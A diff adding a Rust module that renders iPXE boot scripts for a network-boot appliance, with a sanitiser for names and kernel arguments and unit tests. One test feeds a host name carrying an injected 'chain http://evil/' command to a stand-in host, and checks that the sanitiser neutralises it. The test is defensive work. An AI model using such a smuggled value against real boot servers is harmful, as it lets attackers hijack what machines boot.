@@ -1,0 +1,191 @@
+//! The decision as an iPXE script (ipxe.org/scripting): first line `#!ipxe`, every value checked for what iPXE would split on.
+
+use super::decide::BootDecision;
+use crate::host::{Arch, MacAddr};
+use std::fmt::Write as _;
+
+/// What a script needs beside the decision.
+#[derive(Debug, Clone)]
+pub struct ScriptContext<'a> {
+    /// Of this box as the host reaches it, for example `http://192.168.77.1`; no slash at the end.
+    pub box_url: &'a str,
+    /// Shown on the host's screen.
+    pub name: &'a str,
+    /// The port it boots over.
+    pub mac: MacAddr,
+    /// Decides which RAM OS and which loader; what iPXE reports.
+    pub arch: Arch,
+    /// This boot's token in plain text, as hex; only for the RAM OS.
+    pub token: &'a str,
+    /// More kernel arguments, as a person set them.
+    pub kernel_args: &'a str,
+}
+
+/// The script that a host gets which did not say who it is: it asks again with its address, UUID and serial number.
+#[must_use]
+pub fn ask_again(box_url: &str) -> String {
+    format!(
+        "#!ipxe\n\
+         isset ${{netX/mac}} || dhcp\n\
+         :ask\n\
+         chain --replace {box_url}{} ||\n\
+         echo Rackberry at {box_url} does not answer, trying again\n\
+         sleep 3\n\
+         goto ask\n",
+        ASK
+    )
+}
+
+/// Path and query by which iPXE says who it is.
+pub const ASK: &str =
+    "/boot.ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}&arch=${buildarch}&platform=${platform}";
+
+/// A text that may stand in an iPXE `echo` or argument: whatever iPXE would expand, split or take as a comment is replaced.
+#[must_use]
+pub fn plain(text: &str) -> String {
+    text.chars()
+        .map(|c| if c.is_ascii_alphanumeric() || " .,:;!?()+-_/=%@".contains(c) && c != ';' { c } else { '?' })
+        .collect()
+}
+
+/// Renders the script for a decision; [`BootDecision::Silence`] and own files have none of ours and yield a polite exit.
+#[must_use]
+pub fn script(decision: BootDecision, context: &ScriptContext<'_>) -> String {
+    let name = plain(context.name);
+    let url = context.box_url;
+    let mut out = String::from("#!ipxe\n");
+    // Writing to a String cannot fail.
+    let _ = match decision {
+        BootDecision::RamOs(why) => {
+            let arch = ram_os_arch(context.arch);
+            let args = plain(context.kernel_args);
+            write!(
+                out,
+                "echo Rackberry: {name}: starting the RAM OS, {why}\n\
+                 :start\n\
+                 kernel {url}/ramos/{arch}/vmlinuz initrd=early.img rackberry.url={url} rackberry.token={token} BOOTIF=01-{mac}{space}{args} || goto retry\n\
+                 initrd --name early.img {url}/ramos/{arch}/early.img || goto retry\n\
+                 boot || goto retry\n\
+                 :retry\n\
+                 echo Rackberry: the RAM OS did not load from {url}, trying again in 5 seconds\n\
+                 imgfree\n\
+                 sleep 5\n\
+                 goto start\n",
+                why = why.sentence(),
+                token = context.token,
+                mac = context.mac.hyphens(),
+                space = if args.is_empty() { "" } else { " " },
+            )
+        }
+        BootDecision::LocalDisk | BootDecision::OwnFiles | BootDecision::Silence => {
+            // BIOS goes on to the next boot device; EDK2 would open its setup menu, so a GRUB of ours starts the disk's
+            // own loader, and only if there is none the firmware gets its turn.
+            write!(
+                out,
+                "echo Rackberry: {name} starts from its own disk\n\
+                 iseq ${{platform}} efi && goto efi ||\n\
+                 exit\n\
+                 :efi\n\
+                 imgfree ||\n\
+                 chain {url}/loaders/localdisk-{suffix}.efi ||\n\
+                 exit 1\n",
+                suffix = efi_suffix(context.arch),
+            )
+        }
+        BootDecision::NothingToBoot => write!(
+            out,
+            ":again\n\
+             echo\n\
+             echo Rackberry: {name} has an empty disk, and no install is armed.\n\
+             echo Open the page of the box at {url} and press Install on {name}.\n\
+             echo Asking again in 10 seconds.\n\
+             sleep 10\n\
+             chain --replace {url}{ASK} || goto again\n"
+        ),
+    };
+    out
+}
+
+/// iPXE for BIOS reports the build's 32 bits on every machine; our RAM OS for x86 has 64.
+#[must_use]
+pub fn ram_os_arch(arch: Arch) -> Arch {
+    match arch {
+        Arch::Aarch64 | Arch::Arm => Arch::Aarch64,
+        Arch::X86 | Arch::X86_64 | Arch::Riscv64 | Arch::Loongarch64 => Arch::X86_64,
+    }
+}
+
+fn efi_suffix(arch: Arch) -> &'static str {
+    match ram_os_arch(arch) {
+        Arch::Aarch64 => "arm64",
+        _ => "x64",
+    }
+}
+
+/// The architecture iPXE means by its `buildarch` setting.
+#[must_use]
+pub fn arch_of_buildarch(buildarch: &str) -> Option<Arch> {
+    Some(match buildarch {
+        "i386" => Arch::X86,
+        "x86_64" => Arch::X86_64,
+        "arm32" => Arch::Arm,
+        "arm64" => Arch::Aarch64,
+        "riscv64" => Arch::Riscv64,
+        "loong64" => Arch::Loongarch64,
+        _ => return None,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::decide::Why;
+    use super::*;
+
+    fn context() -> ScriptContext<'static> {
+        ScriptContext {
+            box_url: "http://192.168.77.1",
+            name: "node-01",
+            mac: MacAddr([0x52, 0x54, 0, 0x77, 0, 1]),
+            arch: Arch::X86,
+            token: "00ff",
+            kernel_args: "",
+        }
+    }
+
+    #[test]
+    fn the_ram_os_script_is_the_reviewed_one() {
+        let golden = "#!ipxe\n\
+            echo Rackberry: node-01: starting the RAM OS, an install waits for this machine\n\
+            :start\n\
+            kernel http://192.168.77.1/ramos/x86_64/vmlinuz initrd=early.img rackberry.url=http://192.168.77.1 rackberry.token=00ff BOOTIF=01-52-54-00-77-00-01 || goto retry\n\
+            initrd --name early.img http://192.168.77.1/ramos/x86_64/early.img || goto retry\n\
+            boot || goto retry\n\
+            :retry\n\
+            echo Rackberry: the RAM OS did not load from http://192.168.77.1, trying again in 5 seconds\n\
+            imgfree\n\
+            sleep 5\n\
+            goto start\n";
+        assert_eq!(script(BootDecision::RamOs(Why::Install), &context()), golden);
+    }
+
+    #[test]
+    fn local_disk_has_a_way_for_each_firmware() {
+        let text = script(BootDecision::LocalDisk, &ScriptContext { arch: Arch::Aarch64, ..context() });
+        assert!(
+            text.contains("\nexit\n") && text.contains("localdisk-arm64.efi") && text.ends_with("exit 1\n"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_hostile_name_cannot_add_a_command() {
+        let evil = ScriptContext { name: "x\nchain http://evil/ || # ${next-server} ;&& y", ..context() };
+        for decision in [BootDecision::LocalDisk, BootDecision::NothingToBoot, BootDecision::RamOs(Why::Policy)] {
+            let clean = script(decision, &context());
+            let text = script(decision, &evil);
+            assert_eq!(text.lines().count(), clean.lines().count(), "{text}");
+            let said = text.lines().find(|line| line.contains("evil")).unwrap();
+            assert!(!said.contains(['$', '|', '&', '#', ';']), "{said}");
+        }
+    }
+}
